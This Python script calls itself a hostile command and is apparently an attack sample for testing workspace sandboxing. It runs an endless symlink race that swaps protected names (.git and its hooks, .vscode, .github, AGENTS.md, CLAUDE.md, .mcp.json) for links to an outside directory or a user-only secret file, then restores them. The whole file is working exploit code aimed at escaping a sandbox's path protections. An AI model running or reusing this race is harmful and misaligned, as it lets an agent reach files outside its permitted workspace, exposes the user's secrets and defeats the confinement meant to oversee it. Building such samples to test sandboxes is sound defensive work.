"""A hostile command: exchanges protected names of its workspace with links that lead outside.

Arguments: a directory outside, and a file outside that only the user may read.
"""

import itertools
import os
import sys
from contextlib import suppress
from pathlib import Path

DIRECTORIES = ("x/.git", ".vscode", ".github", ".husky", "x/.git/hooks")
FILES = ("AGENTS.md", "CLAUDE.md", ".gitmodules", "x/.git/HEAD", ".mcp.json")


def swap(outside: Path, secret: Path) -> None:
    """Swap until the process is ended."""
    pairs = [(Path(name), outside) for name in DIRECTORIES]
    pairs += [(Path(name), secret) for name in FILES]
    for number in itertools.count():
        place, target = pairs[number % len(pairs)]
        kept = Path(f"kept-{number % len(pairs)}")
        with suppress(OSError):
            place.rename(kept)
        with suppress(OSError):
            place.symlink_to(target)
            os.sched_yield()
            place.unlink()
        with suppress(OSError):
            kept.rename(place)


if __name__ == "__main__":
    swap(Path(sys.argv[1]), Path(sys.argv[2]))
